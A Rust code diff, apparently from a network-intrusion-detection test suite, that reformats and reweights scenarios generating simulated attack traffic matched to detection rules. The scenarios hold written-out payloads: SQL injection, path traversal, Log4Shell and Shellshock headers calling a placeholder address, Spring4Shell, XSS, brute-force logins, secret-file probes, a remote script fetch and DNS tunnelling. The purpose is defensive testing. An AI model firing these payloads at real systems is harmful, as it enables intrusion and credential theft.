@@ -15,8 +15,14 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         rules: &[],
         weight: 0,
         build: |s| {
-            const NAMES: [&str; 6] =
-                ["www.example.com", "mail.example.org", "cdn.example.net", "intranet.example", "wiki.example.com", "files.example.org"];
+            const NAMES: [&str; 6] = [
+                "www.example.com",
+                "mail.example.org",
+                "cdn.example.net",
+                "intranet.example",
+                "wiki.example.com",
+                "files.example.org",
+            ];
             const PAGES: [&str; 4] = ["/", "/index.html", "/news", "/search?q=opening+hours"];
             let name = NAMES[s.dice.usize(..NAMES.len())];
             let page = PAGES[s.dice.usize(..PAGES.len())];
@@ -45,18 +51,20 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "sqlmap",
         about: "sqlmap tries a web form",
         rules: &[9_000_101],
-        weight: 8,
+        weight: 24,
         build: |s| s.attack("/search?q=1%27%20AND%20SLEEP", "sqlmap/1.8.4#stable (https://sqlmap.org)", ""),
     },
     Scenario {
         name: "nikto",
         about: "Nikto tests a web server",
         rules: &[9_000_102],
-        weight: 6,
+        weight: 18,
         build: |s| {
             let (from, to) = (s.stranger(), s.scene.web());
             ["/admin/", "/test.cgi", "/phpinfo.php", "/server-status"]
-                .map(|page| http(from, to, "GET", &s.marked(page), &s.marked_agent("Mozilla/5.00 (Nikto/2.5.0)"), "", ""))
+                .map(|page| {
+                    http(from, to, "GET", &s.marked(page), &s.marked_agent("Mozilla/5.00 (Nikto/2.5.0)"), "", "")
+                })
                 .into()
         },
     },
@@ -64,14 +72,20 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "nmap",
         about: "Nmap's scripts question a web server",
         rules: &[9_000_103],
-        weight: 6,
-        build: |s| s.attack("/nmaplowercheck1", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", ""),
+        weight: 18,
+        build: |s| {
+            s.attack(
+                "/nmaplowercheck1",
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+                "",
+            )
+        },
     },
     Scenario {
         name: "web-scanner",
         about: "another scanner looks for pages",
         rules: &[9_000_104],
-        weight: 6,
+        weight: 18,
         build: |s| {
             const TOOLS: [&str; 4] = ["gobuster/3.6", "masscan/1.3", "Nuclei - Open-source project", "zgrab/0.x"];
             let tool = TOOLS[s.dice.usize(..TOOLS.len())];
@@ -82,7 +96,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "port-scan",
         about: "forty ports are tried",
         rules: &[9_000_105],
-        weight: 5,
+        weight: 15,
         build: |s| {
             let (from, to) = (s.stranger(), s.scene.files());
             (0..40).map(|i| Conversation { from, to, port: 1000 + 37 * i, talk: Talk::Knock }).collect()
@@ -92,7 +106,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "ssh-brute-force",
         about: "a dozen SSH sign-ins in a row",
         rules: &[9_000_106],
-        weight: 6,
+        weight: 18,
         build: |s| {
             let (from, to) = (s.stranger(), s.scene.files());
             let banner = b"SSH-2.0-libssh2_1.11.0\r\n".to_vec();
@@ -103,41 +117,45 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "wordpress-brute-force",
         about: "a dozen WordPress sign-ins in a row",
         rules: &[9_000_107],
-        weight: 4,
+        weight: 12,
         build: |s| {
             let (from, to) = (s.stranger(), s.scene.web());
-            (0..12).map(|i| http(from, to, "POST", "/wp-login.php", BROWSER, "", &format!("log=admin&pwd=summer{i}"))).collect()
+            (0..12)
+                .map(|i| http(from, to, "POST", "/wp-login.php", BROWSER, "", &format!("log=admin&pwd=summer{i}")))
+                .collect()
         },
     },
     Scenario {
         name: "secrets",
         about: "secrets are sought on a web server",
         rules: &[9_000_108],
-        weight: 6,
+        weight: 18,
         build: |s| {
             let (from, to) = (s.stranger(), s.scene.web());
-            ["/.env", "/.git/config", "/wp-config.php.bak"].map(|page| http(from, to, "GET", page, BROWSER, "", "")).into()
+            ["/.env", "/.git/config", "/wp-config.php.bak"]
+                .map(|page| http(from, to, "GET", page, BROWSER, "", ""))
+                .into()
         },
     },
     Scenario {
         name: "sql-injection",
         about: "SQL injection with UNION SELECT",
         rules: &[9_000_201],
-        weight: 6,
+        weight: 18,
         build: |s| s.attack("/search?q=x%27%20UNION%20ALL%20SELECT%20name,passphrase%20FROM%20users--%20", BROWSER, ""),
     },
     Scenario {
         name: "sql-condition",
         about: "SQL injection by a condition",
         rules: &[9_000_202],
-        weight: 5,
+        weight: 15,
         build: |s| s.attack("/login?name=admin%27%20OR%20%271%27=%271&page=1%27)%20or%20sleep(5)--", BROWSER, ""),
     },
     Scenario {
         name: "path-traversal",
         about: "path traversal, without luck",
         rules: &[9_000_203],
-        weight: 6,
+        weight: 18,
         build: |s| s.attack("/static/..%2f..%2f..%2f..%2fwindows/win.ini", "python-requests/2.31.0", ""),
     },
     Scenario {
@@ -151,14 +169,14 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "log4shell",
         about: "Log4Shell in a header",
         rules: &[9_000_205],
-        weight: 5,
+        weight: 15,
         build: |s| s.attack("/login", BROWSER, "X-Api-Version: ${jndi:ldap://192.0.2.66:389/a}\r\n"),
     },
     Scenario {
         name: "log4shell-disguised",
         about: "Log4Shell, disguised, in a URL",
         rules: &[9_000_206],
-        weight: 4,
+        weight: 12,
         build: |s| s.attack("/search?q=${${lower:j}ndi:${lower:l}dap://192.0.2.66/a}", BROWSER, ""),
     },
     Scenario {
@@ -175,7 +193,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "shellshock",
         about: "Shellshock in a header",
         rules: &[9_000_208],
-        weight: 4,
+        weight: 12,
         build: |s| s.attack("/cgi-bin/status", BROWSER, "Referer: () { :; }; /bin/ping -c 1 192.0.2.66\r\n"),
     },
     Scenario {
@@ -189,14 +207,14 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "cross-site-scripting",
         about: "a script in a parameter",
         rules: &[9_000_210],
-        weight: 6,
+        weight: 18,
         build: |s| s.attack("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", BROWSER, ""),
     },
     Scenario {
         name: "spring4shell",
         about: "Spring4Shell in a form",
         rules: &[9_000_211],
-        weight: 3,
+        weight: 9,
         build: |s| {
             let (from, to) = (s.stranger(), s.scene.web());
             let body = "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp";
@@ -207,7 +225,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "eicar",
         about: "the EICAR test file is downloaded",
         rules: &[9_000_301],
-        weight: 5,
+        weight: 15,
         build: |s| s.fetch(SITE, "GET", "/eicar.com", BROWSER, ""),
     },
     Scenario {
@@ -215,13 +233,21 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         about: "PowerShell fetches a script that fetches more",
         rules: &[9_000_302, 9_000_303],
         weight: 1,
-        build: |s| s.fetch(CONTROL, "GET", "/update.ps1", "Mozilla/5.0 (Windows NT; en-GB) WindowsPowerShell/5.1.19041.4648", ""),
+        build: |s| {
+            s.fetch(
+                CONTROL,
+                "GET",
+                "/update.ps1",
+                "Mozilla/5.0 (Windows NT; en-GB) WindowsPowerShell/5.1.19041.4648",
+                "",
+            )
+        },
     },
     Scenario {
         name: "program",
         about: "a Windows program is downloaded in clear",
         rules: &[9_000_304],
-        weight: 5,
+        weight: 15,
         build: |s| s.fetch(SITE, "GET", "/setup.exe", BROWSER, ""),
     },
     Scenario {
@@ -239,10 +265,11 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "miner",
         about: "a machine signs in at a mining pool",
         rules: &[9_000_306],
-        weight: 3,
+        weight: 9,
         build: |s| {
             let subscribe = b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"xmrig/6.21.0\"]}\n".to_vec();
-            let authorize = b"{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"demo.worker1\",\"x\"]}\n".to_vec();
+            let authorize =
+                b"{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"demo.worker1\",\"x\"]}\n".to_vec();
             let talk = Talk::Tcp(vec![subscribe, authorize]);
             vec![Conversation { from: s.scene.desk(s.dice), to: CONTROL, port: 3333, talk }]
         },
@@ -251,7 +278,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "shell-script",
         about: "a server fetches a script from a bare address",
         rules: &[9_000_307],
-        weight: 3,
+        weight: 9,
         build: |s| vec![http(s.scene.web(), CONTROL, "GET", "/x86.sh", &s.marked_agent("curl/7.88.1"), "", "")],
     },
     Scenario {
@@ -270,7 +297,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "dns-tunnel",
         about: "data leaves in names",
         rules: &[9_000_401],
-        weight: 3,
+        weight: 9,
         build: |s| {
             let from = s.scene.desk(s.dice);
             (0..8)
@@ -286,35 +313,35 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "dns-ending",
         about: "a name under an ending that is often abused",
         rules: &[9_000_402],
-        weight: 9,
+        weight: 27,
         build: |s| vec![s.look_up("free-games.example.top")],
     },
     Scenario {
         name: "dns-tunnelling-service",
         about: "the name of a tunnelling service",
         rules: &[9_000_403],
-        weight: 5,
+        weight: 15,
         build: |s| vec![s.look_up("3f2a.ngrok.io")],
     },
     Scenario {
         name: "tls-test-name",
         about: "an encrypted connection to a known test name",
         rules: &[9_000_404],
-        weight: 4,
+        weight: 12,
         build: |s| vec![s.hello("testmynids.org")],
     },
     Scenario {
         name: "tls-tunnelling-service",
         about: "an encrypted connection to a tunnelling service",
         rules: &[9_000_405],
-        weight: 4,
+        weight: 12,
         build: |s| vec![s.hello("quiet-cat.trycloudflare.com")],
     },
     Scenario {
         name: "ftp-password",
         about: "a password over FTP",
         rules: &[9_000_501],
-        weight: 5,
+        weight: 15,
         build: |s| {
             let lines = ["USER scanner\r\n", "PASS not-a-secret\r\n", "QUIT\r\n"].map(|l| l.as_bytes().to_vec());
             vec![Conversation { from: s.scene.desk(s.dice), to: SITE, port: 21, talk: Talk::Tcp(lines.into()) }]
@@ -324,7 +351,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "basic-password",
         about: "a password in HTTP basic authentication",
         rules: &[9_000_502],
-        weight: 5,
+        weight: 15,
         build: |s| {
             let from = s.scene.desk(s.dice);
             let header = "Authorization: Basic ZGVtbzpub3QtYS1zZWNyZXQ=\r\n";
@@ -335,7 +362,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "form-password",
         about: "a password in a form in clear",
         rules: &[9_000_503],
-        weight: 6,
+        weight: 18,
         build: |s| s.fetch(SITE, "POST", "/login", BROWSER, "name=demo&password=not-a-secret"),
     },
     Scenario {
@@ -353,7 +380,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "smb1",
         about: "SMB version 1 is asked for",
         rules: &[9_000_602],
-        weight: 4,
+        weight: 12,
         build: |s| {
             let mut ask = b"\xffSMB\x72".to_vec();
             ask.resize(32, 0);
@@ -366,7 +393,7 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         name: "rdp-brute-force",
         about: "many remote desktop sign-ins in a row",
         rules: &[9_000_603],
-        weight: 4,
+        weight: 12,
         build: |s| {
             let (from, to) = (s.stranger(), s.scene.files());
             (0..8)
